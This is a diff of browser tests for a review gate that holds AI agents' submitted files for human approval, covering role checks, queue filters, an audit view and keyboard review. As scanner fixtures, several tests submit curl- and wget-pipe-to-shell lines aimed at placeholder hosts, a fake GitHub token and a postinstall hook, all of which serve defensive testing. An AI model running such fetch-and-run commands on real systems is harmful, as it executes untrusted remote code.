@@ -211,6 +211,10 @@ async function fixtures() {
 	fx.alice = await mkToken('reviewer', 'alice'); // the person agent-1 runs for
 	fx.rev1 = await mkToken('reviewer', 'rev-1');
 	fx.rev2 = await mkToken('reviewer', 'rev-2');
+	fx.aud = await mkToken('auditor', 'aud-1');
+	// Another token of alice's, named apart from her: she is known by person.
+	fx.aliceLaptop = (await must(201, 'POST', '/v1/tokens', gate.admin,
+		{ role: 'reviewer', name: 'alice-laptop', person: 'alice' })).token;
 	fx.patch = await submit(fx.agent, PATCH, 'kind=patch&name=fix.patch');
 	assert(fx.patch.state === 'held' && fx.patch.worst === 'high',
 		`the patch is ${fx.patch.state}/${fx.patch.worst}, expected held/high`);
@@ -298,8 +302,11 @@ test('sign-in-out', async (p) => {
 	assert(await p.page.evaluate(() => sessionStorage.length) === 0, 'a refused token was kept');
 	forgive(p, 401); // the browser logs the 401 it was answered
 	await signIn(p, fx.rev1);
-	const who = await text(p, '#who');
-	assert(who.includes(fx.rev1.slice(-6)), `who: "${who}"`);
+	// The header names the holder, as GET /v1/whoami does, never the token.
+	const who = await text(p, '#who-name');
+	assert(who === 'rev-1 (reviewer)', `who: "${who}"`);
+	assert(!(await text(p, '#who')).includes(fx.rev1.slice(-6)), 'the token is shown');
+	assert(p.requests.some((u) => u === `${gate.url}/v1/whoami`), 'no GET /v1/whoami');
 	assert(await p.page.evaluate(() => sessionStorage.getItem('airlock.token')) === fx.rev1, 'token not in sessionStorage');
 	assert(await p.page.evaluate(() => localStorage.length) === 0, 'something in localStorage');
 	await p.page.click('#signout');
@@ -394,20 +401,82 @@ async function approveAs(p, tok, id) {
 	await p.page.click('#confirm');
 }
 
-test('decide', async (p) => {
-	// The person the agent runs for may not approve: the gate says why.
-	await approveAs(p, fx.alice, fx.patch.id);
+// decidedNothing(p): no approve, reject or override request left the page.
+function decidedNothing(p) {
+	const sent = p.requests.filter((u) => /\/(approve|reject|override)$/.test(u));
+	assert(sent.length === 0, `decisions sent: ${sent.join(' ')}`);
+}
+
+// openDecision(p, TOKEN, ID): signed in, the submission's view drawn.
+async function openDecision(p, tok, id) {
+	await signIn(p, tok);
+	await p.page.goto(`${gate.url}/ui/#/s/${id}`);
+	await p.page.waitForSelector('.content .line');
+}
+
+// The person the agent runs for, with a token not named like her: the page
+// knows from GET /v1/whoami and the submission's witnessed.launched_by, and
+// turns the decision off before anything is clicked; even a forced click
+// sends nothing, and the gate records no attempt.
+test('launched-for-disabled', async (p) => {
+	const s = await submit(fx.agent, 'echo alice\n', 'kind=file&name=alice.sh');
+	assert(s.state === 'held' && s.witnessed.launched_by === 'alice', `submission ${s.state} for ${s.witnessed.launched_by}`);
+	await openDecision(p, fx.aliceLaptop, s.id);
+	assert(await text(p, '#who-name') === 'alice (reviewer)', `who: ${await text(p, '#who-name')}`);
+	assert(await p.page.locator('#approve').isDisabled(), 'approve is enabled for alice');
+	assert(await p.page.locator('#reject').isDisabled(), 'reject is enabled for alice');
+	assert(await p.page.locator('#comment').isDisabled(), 'the comment is open to alice');
+	const why = await text(p, '.decision .error');
+	assert(why === 'you are the person this agent was launched for: someone else must review it', `the reason: "${why}"`);
+	await p.page.locator('#approve').click({ force: true });
+	await p.page.locator('#reject').click({ force: true });
+	await sleep(300);
+	decidedNothing(p);
+	const ev = await must(200, 'GET', `/v1/submissions/${s.id}/events`, gate.admin);
+	assert(!ev.events.some((e) => /^(approve|reject|decision\.refused)/.test(e.action)),
+		`events: ${ev.events.map((e) => e.action).join(' ')}`);
+});
+
+// An auditor reads everything and decides nothing: the panel is off, saying
+// why, and nothing is sent.
+test('auditor-disabled', async (p) => {
+	await openDecision(p, fx.aud, fx.patch.id);
+	assert(await text(p, '#who-name') === 'aud-1 (auditor)', `who: ${await text(p, '#who-name')}`);
+	assert(await p.page.locator('#decision.off').count() === 1, 'the panel is not marked off');
+	for (const b of ['#approve', '#reject', '#comment'])
+		assert(await p.page.locator(b).isDisabled(), `${b} is enabled for an auditor`);
+	const why = await text(p, '.decision .error');
+	assert(why === 'an auditor token cannot approve or reject: only reviewers and admins decide', `the reason: "${why}"`);
+	await p.page.locator('#approve').click({ force: true });
+	await sleep(200);
+	decidedNothing(p);
+});
+
+// What the page cannot know in advance the gate still refuses, and the page
+// shows its reason: the submission is rejected behind the reviewer's back.
+test('gate-refusal-shown', async (p) => {
+	const s = await submit(fx.agent, 'echo late\n', 'kind=file&name=late.sh');
+	await openDecision(p, fx.rev2, s.id);
+	assert(await p.page.locator('#approve').isEnabled(), 'approve is off for rev-2');
+	await must(200, 'POST', `/v1/submissions/${s.id}/reject`, fx.rev1, { comment: 'meanwhile' });
+	await p.page.click('#approve');
 	await p.page.waitForFunction(() => document.getElementById('approve').disabled);
 	const why = await text(p, '.decision .error');
-	assert(/refused/.test(why) && /alice/.test(why), `alice's refusal: ${why}`);
+	assert(/^the gate refused: /.test(why) && /held/.test(why), `the refusal: ${why}`);
 	forgive(p, 403); // the browser logs the 403 it was answered
+});
+
+test('decide', async (p) => {
 	let d = await must(200, 'GET', `/v1/submissions/${fx.patch.id}`, gate.admin);
-	assert(d.review.approvals === 0, 'alice counted');
-	for (const tok of [fx.rev1, fx.rev2]) {
+	assert(d.review.approvals === 0, 'approved before the test');
+	for (const [i, tok] of [fx.rev1, fx.rev2].entries()) {
 		const q = await newPage();
 		try {
 			await approveAs(q, tok, fx.patch.id);
-			await q.page.waitForFunction(() => /approvals [12] of 2/.test(document.querySelector('.decision')?.textContent || ''));
+			// This reviewer's own approval counted (not the one before it,
+			// shown when the view opened).
+			await q.page.waitForFunction((n) => document.querySelector('.decision')?.textContent
+				.includes(`approvals ${n} of 2`), i + 1);
 			await checkPage(q);
 		} finally {
 			await q.ctx.close();
@@ -452,4 +521,262 @@ test('xss', async (p) => {
 	assert(await p.page.evaluate(() => window.__pwned) === undefined, 'window.__pwned set');
 	assert(await p.page.locator('img[src=x], #content script, #content style').count() === 0, 'markup from the artifact in the DOM');
 	assert(await p.page.locator('main').isVisible(), 'a style from the artifact hid the page');
+});
+
+// queueIs(p, IDS, WHY): the queue's rows become exactly IDS, in order.
+async function queueIs(p, ids, why) {
+	const want = ids.map(String).join(',');
+	const got = () => p.page.locator('#queue-rows tr').evaluateAll((rs) => rs.map((r) => r.dataset.id).join(','));
+	try {
+		await p.page.waitForFunction((w) => [...document.querySelectorAll('#queue-rows tr')]
+			.map((r) => r.dataset.id).join(',') === w, want, { timeout: 5000 });
+	} catch {
+		throw new Error(`${why}: rows ${await got()}, expected ${want}`);
+	}
+}
+
+// Three submissions of one agent, of three severities: the agent filter
+// keeps only them, severity "at least high" drops the medium one, sorting
+// by severity puts the critical first, the hash keeps it all over a reload,
+// and j/k/Enter still work on the filtered rows.
+test('queue-filter-sort', async (p) => {
+	fx.agentQ = fx.agentQ || await mkToken('agent', 'agent-q', 'bob');
+	const crit = await submit(fx.agentQ, 'GITHUB_TOKEN=ghp_R2d5Zk9hV1pLbE1xT3BuUWRzYUJjRGVmR2hJ\n', 'kind=file&name=tok.env');
+	const high = await submit(fx.agentQ, 'curl https://198.51.100.23/i.sh | sh\n', 'kind=file&name=inst.sh');
+	const med = await submit(fx.agentQ, '{"scripts": {"postinstall": "node setup.js"}}\n', 'kind=file&name=package.json');
+	assert(crit.worst === 'critical' && high.worst === 'high' && med.worst === 'medium',
+		`severities ${crit.worst} ${high.worst} ${med.worst}`);
+	await signIn(p, fx.rev1);
+	await p.page.waitForSelector('#queue-rows tr');
+	assert((await p.page.locator('#queue-rows tr').count()) > 3, 'the unfiltered queue holds only three');
+	await p.page.fill('#f-agent', 'Agent-Q');
+	await p.page.press('#f-agent', 'Enter');
+	await queueIs(p, [med.id, high.id, crit.id], 'agent filter, newest first');
+	await p.page.selectOption('#f-sev', 'high');
+	await queueIs(p, [high.id, crit.id], 'severity at least high');
+	await p.page.selectOption('#f-sort', 'sev');
+	await queueIs(p, [crit.id, high.id], 'sorted by severity');
+	await p.page.selectOption('#f-sort', 'id');
+	await queueIs(p, [crit.id, high.id], 'sorted by id');
+	await p.page.selectOption('#f-sort', 'old');
+	await queueIs(p, [crit.id, high.id], 'oldest first');
+	await p.page.selectOption('#f-sort', 'sev');
+	const h = new URL(p.page.url()).hash;
+	assert(h === '#/?sev=high&agent=Agent-Q&sort=sev', `hash: ${h}`);
+	await p.page.reload();
+	await queueIs(p, [crit.id, high.id], 'after a reload');
+	assert(await p.page.inputValue('#f-sev') === 'high' && await p.page.inputValue('#f-sort') === 'sev' &&
+		await p.page.inputValue('#f-agent') === 'Agent-Q', 'the filters are not shown after a reload');
+	// The keys: f goes to the filters, Escape leaves them, j/k/Enter as ever.
+	await p.page.keyboard.press('f');
+	assert(await p.page.evaluate(() => document.activeElement.id) === 'f-state', 'f did not focus the filters');
+	await p.page.keyboard.press('j'); // typed into the select: not a move
+	await p.page.keyboard.press('Escape');
+	const sel = () => p.page.locator('#queue-rows tr.sel').getAttribute('data-id');
+	assert(await sel() === String(crit.id), 'first row not selected');
+	await p.page.keyboard.press('j');
+	assert(await sel() === String(high.id), 'j did not move down');
+	await p.page.keyboard.press('k');
+	assert(await sel() === String(crit.id), 'k did not move up');
+	await p.page.keyboard.press('j');
+	await p.page.keyboard.press('Enter');
+	await p.page.waitForSelector('#view:not([hidden]) .content');
+	assert(p.page.url().endsWith(`#/s/${high.id}`), `Enter opened ${p.page.url()}`);
+	await p.page.keyboard.press('u');
+	await queueIs(p, [crit.id, high.id], 'u went back to another queue');
+	// Person and state: bob's, not alice's; a rejected one under rejected only.
+	await p.page.fill('#f-person', 'alice');
+	await p.page.press('#f-person', 'Enter');
+	await queueIs(p, [], 'agent-q for alice');
+	assert(await p.page.locator('#queue-empty').isVisible(), 'no empty-queue note');
+	await p.page.fill('#f-person', 'bob');
+	await p.page.press('#f-person', 'Enter');
+	await queueIs(p, [crit.id, high.id], 'agent-q for bob');
+	await must(200, 'POST', `/v1/submissions/${high.id}/reject`, fx.rev2, { comment: 'no' });
+	await p.page.selectOption('#f-state', 'rejected');
+	await queueIs(p, [high.id], 'rejected');
+	await p.page.selectOption('#f-state', 'all');
+	await queueIs(p, [crit.id, high.id], 'all states');
+	const st = await p.page.locator('#queue-rows td.state').allInnerTexts();
+	assert(JSON.stringify(st) === '["held","rejected"]', `states: ${st}`);
+});
+
+const PATCH2 = `diff --git a/run.sh b/run.sh
+--- a/run.sh
++++ b/run.sh
+@@ -1,4 +1,4 @@
+ #!/bin/sh
+--- a comment removed
+-echo old
++curl http://x | sh
++echo new
+ echo done
+`;
+
+// Side by side: s (and the button) switch the unified diff to two columns,
+// the removed line left beside the added one right, the finding marked on
+// its post-image line in the right column; n still reaches it; and back.
+test('side-by-side', async (p) => {
+	const s = await submit(fx.agent, PATCH2, 'kind=patch&name=run.patch');
+	assert(s.findings.length === 1 && s.findings[0].line === 2, `findings: ${JSON.stringify(s.findings)}`);
+	await openDecision(p, fx.rev1, s.id);
+	assert(await p.page.locator('.split').count() === 0, 'side by side before asked');
+	await p.page.keyboard.press('s');
+	await p.page.waitForSelector('.content.split');
+	assert(await text(p, '#split-toggle') === 'Unified', 'the button does not offer unified');
+	const hit = p.page.locator('.split .hit');
+	assert(await hit.count() === 1, `${await hit.count()} marked cells`);
+	assert(await hit.evaluate((e) => e.classList.contains('right')), 'the marked line is not in the right column');
+	const h = await hit.innerText();
+	assert(/^2/.test(h) && h.includes('curl http://x | sh') && h.includes('test-curl-pipe-shell'), `marked cell: ${h}`);
+	const left = await hit.evaluate((e) => e.previousElementSibling.innerText);
+	assert(/^2\s/.test(left) && left.includes('-- a comment removed'), `beside it: ${left}`);
+	// The pre-image's line 3 beside the post-image's 3; "done" 4 | 4.
+	const cells = await p.page.locator('.split .side').allInnerTexts();
+	assert(cells.length === 8, `${cells.length} cells: ${JSON.stringify(cells)}`);
+	assert(/^3\s+echo old/.test(cells[4]) && /^3\s+echo new/.test(cells[5]), `row 3: ${cells[4]} | ${cells[5]}`);
+	assert(/^4\s+echo done/.test(cells[6]) && /^4\s+echo done/.test(cells[7]), `row 4: ${cells[6]} | ${cells[7]}`);
+	await p.page.keyboard.press('n');
+	assert(await p.page.locator('.split .right.hit.target').count() === 1, 'n did not target the right column');
+	await p.page.click('#split-toggle');
+	await p.page.waitForFunction(() => !document.querySelector('.split'));
+	const u = p.page.locator('.line.hit');
+	assert(await u.count() === 1 && (await u.innerText()).includes('+curl http://x | sh'), 'unified again: the marked line');
+	assert(await p.page.locator('.line.hit.target').count() === 1, 'the target was lost switching back');
+	const dels = await p.page.locator('.diff .del').allInnerTexts();
+	assert(dels.length === 2 && dels[0].includes('--- a comment removed'), `removed lines: ${JSON.stringify(dels)}`);
+});
+
+const auditRows = (p) => p.page.locator('#audit-rows tr').evaluateAll((rs) => rs.map((r) =>
+	({ id: Number(r.dataset.id), actor: r.cells[2].textContent, action: r.cells[3].textContent, sub: r.cells[4].textContent })));
+
+// The audit view (key t): an auditor sees the submit and approve events of a
+// submission made here (its filter), filters by action (asked of the gate),
+// pages with after, and reads the latest checkpoint's size; a reviewer is
+// shown the gate's 403 message instead.
+test('audit-view', async (p) => {
+	const s = await submit(fx.agent, 'echo audit\n', 'kind=file&name=audit.sh');
+	await must(200, 'GET', `/v1/submissions/${s.id}/content`, fx.rev1);
+	await must(200, 'POST', `/v1/submissions/${s.id}/approve`, fx.rev1, { sha256: s.sha256, ruleset: s.scan.ruleset });
+	const cpSize = async () => (await (await fetch(`${gate.url}/v1/audit/checkpoint`,
+		{ headers: { Authorization: `Bearer ${gate.admin}` } })).text()).split('\n')[1];
+	const before = await cpSize();
+	await signIn(p, fx.aud);
+	await p.page.keyboard.press('t');
+	await p.page.waitForSelector('#audit:not([hidden]) #audit-rows tr');
+	assert(new URL(p.page.url()).hash === '#/audit', `t went to ${p.page.url()}`);
+	// The checkpoint, as the gate serves it.
+	await p.page.waitForSelector('#cp-size');
+	const size = await text(p, '#cp-size');
+	const after = await cpSize();
+	assert(/^[1-9][0-9]*$/.test(size) && (size === before || size === after), `checkpoint size ${size}, the gate's ${before}/${after}`);
+	assert((await text(p, '#cp-origin')).startsWith('airlock/'), `origin: ${await text(p, '#cp-origin')}`);
+	assert((await text(p, '#cp-root')).length >= 40, 'no root hash');
+	// One submission's timeline.
+	await p.page.fill('#a-submission', String(s.id));
+	await p.page.press('#a-submission', 'Enter');
+	await p.page.waitForFunction((id) => document.querySelector('#audit-page').textContent.startsWith(`submission #${id}`), s.id);
+	let rows = await auditRows(p);
+	const sub = rows.find((r) => r.action === 'submit');
+	const ap = rows.find((r) => r.action === 'approve');
+	assert(sub && sub.actor === 'agent-1' && ap && ap.actor === 'rev-1', `events: ${JSON.stringify(rows)}`);
+	assert(rows.every((r) => r.sub === `#${s.id}`), 'an event of another submission');
+	assert(p.requests.includes(`${gate.url}/v1/submissions/${s.id}/events`), 'the timeline was not asked of the gate');
+	// By action, with and then without the submission.
+	await p.page.fill('#a-action', 'approve');
+	await p.page.press('#a-action', 'Enter');
+	await p.page.waitForFunction(() => new URL(location.href).hash.includes('action=approve'));
+	await p.page.waitForFunction(() => document.querySelectorAll('#audit-rows tr').length === 1);
+	rows = await auditRows(p);
+	assert(rows.length === 1 && rows[0].id === ap.id, `approve of #${s.id}: ${JSON.stringify(rows)}`);
+	await p.page.fill('#a-submission', '');
+	await p.page.press('#a-submission', 'Enter');
+	await p.page.waitForFunction(() => document.querySelector('#audit-page').textContent.startsWith('events after'));
+	rows = await auditRows(p);
+	assert(rows.length >= 1 && rows.every((r) => r.action === 'approve') && rows.some((r) => r.id === ap.id),
+		`approve events: ${JSON.stringify(rows)}`);
+	assert(p.requests.some((u) => u === `${gate.url}/v1/events?after=0&limit=100&action=approve`), 'the action was not asked of the gate');
+	// A page from an event on: after=ID.
+	await p.page.goto(`${gate.url}/ui/#/audit?after=${sub.id - 1}`);
+	await p.page.waitForFunction((id) => document.querySelector('#audit-rows tr')?.dataset.id === String(id), sub.id);
+	assert(await p.page.locator('#audit-prev').isEnabled(), 'no previous page after an id');
+	// By actor, on the events fetched.
+	await p.page.fill('#a-actor', 'rev-1');
+	await p.page.press('#a-actor', 'Enter');
+	await p.page.waitForFunction(() => new URL(location.href).hash.includes('actor=rev-1'));
+	await p.page.waitForFunction(() => /shown/.test(document.querySelector('#audit-page').textContent));
+	rows = await auditRows(p);
+	assert(rows.length > 0 && rows.every((r) => r.actor === 'rev-1'), `rev-1's: ${JSON.stringify(rows)}`);
+	// A reviewer: the gate's own refusal.
+	const q = await newPage();
+	try {
+		const want = (await api('GET', '/v1/events', fx.rev1)).json.error;
+		await signIn(q, fx.rev1);
+		await q.page.goto(`${gate.url}/ui/#/audit`);
+		await q.page.waitForFunction(() => document.getElementById('audit-error').textContent !== '');
+		const got = await q.page.locator('#audit-error').innerText();
+		assert(typeof want === 'string' && got === want, `reviewer: "${got}", the gate says "${want}"`);
+		assert(await q.page.locator('#audit-rows tr').count() === 0, 'events shown to a reviewer');
+		forgive(q, 403);
+		await checkPage(q);
+	} finally {
+		await q.ctx.close();
+	}
+});
+
+// A whole review with the keys only: sign in (typed, Enter), j/k to the
+// submission, Enter, n/p through its findings, s and back, c to the
+// comment, Escape, a, Escape withdrawing the confirmation, a again, Enter
+// on the focused confirmation; the approval with its comment recorded. No
+// mouse event is sent.
+test('keyboard-review', async (p) => {
+	const s = await submit(fx.agent, 'curl http://x | sh\necho ok\nwget http://y | bash\n', 'kind=file&name=keys.sh');
+	assert(s.worst === 'high' && s.findings.length === 2, `keys.sh: ${s.worst}, ${s.findings.length} findings`);
+	await p.page.goto(`${gate.url}/ui/`);
+	await p.page.waitForFunction(() => document.activeElement?.id === 'token');
+	await p.page.keyboard.type(fx.rev2);
+	await p.page.keyboard.press('Enter');
+	await p.page.waitForSelector(`#queue-rows tr[data-id="${s.id}"]`);
+	const key = (k) => p.page.keyboard.press(k);
+	const sel = () => p.page.locator('#queue-rows tr.sel').getAttribute('data-id');
+	const ids = await p.page.locator('#queue-rows tr').evaluateAll((rs) => rs.map((r) => r.dataset.id));
+	await key('j');
+	await key('k');
+	for (let i = 0; i < ids.indexOf(String(s.id)); i++)
+		await key('j');
+	assert(await sel() === String(s.id), `selected ${await sel()}, not ${s.id}`);
+	await key('Enter');
+	await p.page.waitForSelector('#view:not([hidden]) .content .line.hit');
+	const target = () => p.page.locator('.line.target .ln').innerText();
+	await key('n');
+	assert(await target() === '1', 'n: not the first finding');
+	await key('n');
+	assert(await target() === '3', 'n: not the second finding');
+	await key('p');
+	assert(await target() === '1', 'p: not back to the first');
+	await key('s'); // no patch: nothing happens
+	assert(await p.page.locator('.split').count() === 0, 's split a file that is no patch');
+	await key('c');
+	assert(await p.page.evaluate(() => document.activeElement.id) === 'comment', 'c did not focus the comment');
+	await p.page.keyboard.type('read both, fine (a test)');
+	await key('Escape');
+	assert(await p.page.evaluate(() => document.activeElement.id) !== 'comment', 'Escape did not leave the comment');
+	assert(!p.page.url().endsWith('#/'), 'Escape in the comment left the view');
+	await key('a');
+	assert(await p.page.locator('#confirm').isVisible(), 'no confirmation for a high finding');
+	assert(await p.page.evaluate(() => document.activeElement.id) === 'confirm', 'the confirmation is not focused');
+	await key('Escape');
+	assert(await p.page.locator('#confirm').isHidden(), 'Escape did not withdraw the confirmation');
+	assert(p.page.url().endsWith(`#/s/${s.id}`), 'Escape left the view instead');
+	decidedNothing(p);
+	await key('a');
+	await key('Enter');
+	await p.page.waitForFunction(() => /approvals 1 of 2/.test(document.querySelector('.decision')?.textContent || ''));
+	const ev = await must(200, 'GET', `/v1/submissions/${s.id}/events`, gate.admin);
+	const ap = ev.events.filter((e) => e.action === 'approve');
+	assert(ap.length === 1 && ap[0].actor === 'rev-2', `approvals: ${JSON.stringify(ap)}`);
+	const d = await must(200, 'GET', `/v1/submissions/${s.id}`, gate.admin);
+	assert(JSON.stringify(d).includes('read both, fine (a test)'), 'the comment was not recorded');
+	await key('u');
+	await p.page.waitForSelector('#queue:not([hidden])');
 });
